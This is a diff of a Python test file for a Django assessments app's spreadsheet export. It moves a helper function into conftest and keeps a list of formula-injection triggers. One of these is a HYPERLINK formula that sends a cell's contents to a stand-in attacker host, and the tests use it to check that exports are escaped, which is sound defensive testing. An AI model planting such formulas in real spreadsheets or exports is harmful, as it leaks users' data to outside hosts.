@@ -14,24 +14,13 @@ from openpyxl import load_workbook
 from assessments import services
 from assessments.exports import safe_cell
 from assessments.models import Answer, Department, Response
-from assessments.services import AnswerInput
+from tests.assessments.conftest import answer_all
 
 pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # OWASP's formula triggers, each at the start of a comment.
 TRIGGERS = [HYPERLINK, "=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]
-
-
-def answer_all(response, questions, index, *, comment="", submit=True):
-    items = [
-        AnswerInput(question_id=q.pk, choice_id=list(q.choices.all())[index].pk, comment=comment)
-        for q in questions.values()
-        if q.applies_to(response.department.function)
-    ]
-    services.save_answers(response=response, items=items)
-    if submit:
-        services.submit_response(response=response)
 
 
 @pytest.fixture
